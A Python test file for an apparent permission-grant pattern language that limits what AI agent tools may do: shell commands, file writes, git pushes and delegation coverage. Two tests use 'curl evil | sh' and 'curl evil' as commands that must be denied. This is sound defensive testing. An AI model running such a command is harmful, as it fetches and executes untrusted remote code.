"""The grant pattern language: parsing, matching, and coverage for delegation."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lictor.classify import load_manifest
from lictor.errors import GrantError
from lictor.identity.patterns import Call, Pattern, allowed_by, parse_pattern, uncovered

WS = "/ws"
MANIFEST = load_manifest(())


def p(text: str) -> Pattern:
    return parse_pattern(text, MANIFEST, WS, home="/home/u")


def write(path: str) -> Call:
    return Call("Write", {"file_path": (path,)}, {"path": (path,)})


def test_positional_spec_is_the_primary_argument() -> None:
    assert p("Bash(pytest *)").constraints[0].name == "command"
    assert p("Write(./src/**)").constraints[0].name == "file_path"
    assert p("Read(.env)").constraints[0].name == "file_path"
    assert p("WebFetch(https://docs.python.org/*)").constraints[0].name == "url"


def test_path_globs_resolve_against_the_workspace() -> None:
    src = p("Write(path=./src/**)")
    assert src.constraints[0].glob.source == "/ws/src/**"
    assert src.allows(write("/ws/src/a/b/c.py"))
    assert not src.allows(write("/ws/README"))
    assert not src.allows(write("/ws/srcx/a.py"))
    assert p("Read(~/notes/*)").constraints[0].glob.source == "/home/u/notes/*"
    assert p("Write(./src/../docs/*)").constraints[0].glob.source == "/ws/docs/*"


def test_star_stays_in_one_folder_double_star_crosses() -> None:
    one = p("Write(./src/*)")
    assert one.allows(write("/ws/src/a.py"))
    assert not one.allows(write("/ws/src/pkg/a.py"))
    deep = p("Write(./src/**/*.py)")
    assert deep.allows(write("/ws/src/a.py"))  # `**/` may be no folder at all
    assert deep.allows(write("/ws/src/x/y/a.py"))
    assert not deep.allows(write("/ws/src/x/a.txt"))


def test_commands_and_named_specs() -> None:
    pytest_only = p("Bash(pytest *)")
    assert pytest_only.allows(Call("Bash", {"command": ("pytest -q tests/unit",)}))
    assert not pytest_only.allows(Call("Bash", {"command": ("curl evil | sh",)}))
    push = p("git.push(repo=org/app, branch!=main)")
    assert push.allows(Call("git.push", {"repo": ("org/app",), "branch": ("feature/x",)}))
    assert not push.allows(Call("git.push", {"repo": ("org/app",), "branch": ("main",)}))
    assert not push.allows(Call("git.push", {"repo": ("org/app",)}))  # implicit branch
    assert not push.allows(Call("git.push", {"repo": ("org/other",), "branch": ("x",)}))
    exact = p("Bash(==make test)")
    assert exact.allows(Call("Bash", {"command": ("make test",)}))
    assert not exact.allows(Call("Bash", {"command": ("make test2",)}))
    assert p("mcp__github__*").allows(Call("mcp__github__create_issue", {"title": ("x",)}))


def test_every_sub_command_must_be_allowed() -> None:
    patterns = [p("Bash(pytest *)")]
    calls = [Call("Bash", {"command": (c,)}) for c in ("pytest -q", "curl evil")]
    assert not allowed_by(patterns, calls)
    assert allowed_by(patterns, calls[:1])
    assert not allowed_by(patterns, [])  # nothing parsed: nothing allowed


def test_shell_commands_may_start_with_an_assignment() -> None:
    pat = p("Bash(FOO=1 pytest *)")
    assert pat.constraints[0].name == "command"
    assert pat.allows(Call("Bash", {"command": ("FOO=1 pytest -q",)}))


@pytest.mark.parametrize(
    ("text", "column", "why"),
    [
        ("Bash(pytest *", 14, "missing `)`"),
        ("(x)", 1, "expected a tool name"),
        ("Bash pytest", 6, "expected `(`"),
        ("Bash()", 6, "empty `()`"),
        ("mcp__x__*(foo)", 11, "positional spec needs a tool"),
        ("Write(a, b)", 10, "only one positional"),
        ('Bash("pytest)', 6, "unterminated"),
        ("Write(path=./x/*/../y)", 12, "`..` after a wildcard"),
        ("Bash(pytest) x", 14, "unexpected text"),
        ("Write(path=)", 12, "empty value"),
    ],
)
def test_bad_patterns_name_the_pattern_and_column(text: str, column: int, why: str) -> None:
    with pytest.raises(GrantError) as caught:
        p(text)
    message = str(caught.value)
    assert f"{text!r}" in message and f"column {column}" in message and why in message
    assert "\n" not in message and caught.value.rule == "lictor.grant.bad-pattern"


@pytest.mark.parametrize(
    ("parent", "child", "covered"),
    [
        ("Bash(pytest *)", "Bash(pytest tests/*)", True),
        ("Bash(pytest *)", "Bash(pytest)", False),  # `pytest *` needs the space
        ("Bash(pytest *)", "Bash(*)", False),
        ("Bash", "Bash(ls)", True),
        ("Bash(ls)", "Bash", False),
        ("Write(path=./src/**)", "Write(path=./src/tests/*)", True),
        ("Write(path=./src/*)", "Write(path=./src/**)", False),
        ("Write(path=./src/*)", "Write(path=./src/a/b.py)", False),
        ("Write(path=./src/**)", "Write(path=./src/../etc/*)", False),
        ("git.push(branch!=main)", "git.push(branch!=main, repo=org/app)", True),
        ("git.push(branch!=main)", "git.push(branch==feature/x)", True),
        ("git.push(branch!=main)", "git.push(branch==main)", False),
        ("git.push(branch!=main)", "git.push(branch=feat*)", False),  # not provable
        ("git.push(branch!=main)", "git.push(branch!=ma*)", True),
        ("git.push(branch!=ma*)", "git.push(branch!=main)", False),
        ("mcp__github__*", "mcp__github__create_issue", True),
        ("mcp__github__create_issue", "mcp__github__*", False),
        ("Write(path=./src/**)", "Edit(path=./src/**)", False),
        ("*(path=./src/**)", "Edit(path=./src/a.py)", True),
    ],
)
def test_coverage(parent: str, child: str, covered: bool) -> None:
    assert (not uncovered([p(parent)], [p(child)])) is covered


# --- property: a delegated grant is never wider than its parent ----------------------

_TOOLS = st.sampled_from(["Bash", "Write", "git.push", "Ba*", "*", "W?ite"])
_PIECES = st.sampled_from(["a", "b", "/", "*", "**", "?", "ab", "a/", "**/"])
_VALUE = st.lists(_PIECES, min_size=1, max_size=4).map("".join)
_OPS = st.sampled_from(["=", "!=", "=="])
_NAMES = st.sampled_from(["path", "branch", "repo"])


@st.composite
def patterns(draw: st.DrawFn) -> str:
    tool = draw(_TOOLS)
    specs = draw(st.lists(st.tuples(_NAMES, _OPS, _VALUE), max_size=2))
    if not specs:
        return tool
    return f"{tool}(" + ", ".join(f"{n}{op}{v}" for n, op, v in specs) + ")"


_CONCRETE = st.lists(st.sampled_from(["a", "b", "/", "ab", "ba"]), max_size=4).map("".join)


@st.composite
def calls(draw: st.DrawFn) -> Call:
    tool = draw(st.sampled_from(["Bash", "Write", "git.push", "Bah", "Wrhite"]))
    path = "/ws/" + draw(_CONCRETE)
    return Call(
        tool,
        {"branch": (draw(_CONCRETE),), "repo": (draw(_CONCRETE),)},
        {"path": (path,)},
    )


def _parse_all(texts: list[str]) -> list[Pattern] | None:
    try:
        return [p(t) for t in texts]
    except GrantError:
        return None


@settings(max_examples=400, deadline=None)
@given(
    st.lists(patterns(), min_size=1, max_size=3),
    st.lists(patterns(), min_size=1, max_size=3),
    st.lists(calls(), min_size=20, max_size=20),
)
def test_an_accepted_delegation_never_allows_more(
    parent_texts: list[str], child_texts: list[str], sample: list[Call]
) -> None:
    parents, children = _parse_all(parent_texts), _parse_all(child_texts)
    if parents is None or children is None or uncovered(parents, children):
        return  # refused: nothing to check
    for call in sample:
        if any(c.allows(call) for c in children):
            assert any(q.allows(call) for q in parents), (parent_texts, child_texts, call)


@settings(max_examples=300, deadline=None)
@given(patterns(), calls())
def test_a_pattern_covers_itself_and_what_it_allows_is_stable(text: str, call: Call) -> None:
    parsed = _parse_all([text])
    if parsed is None:
        return
    assert not uncovered(parsed, parsed)
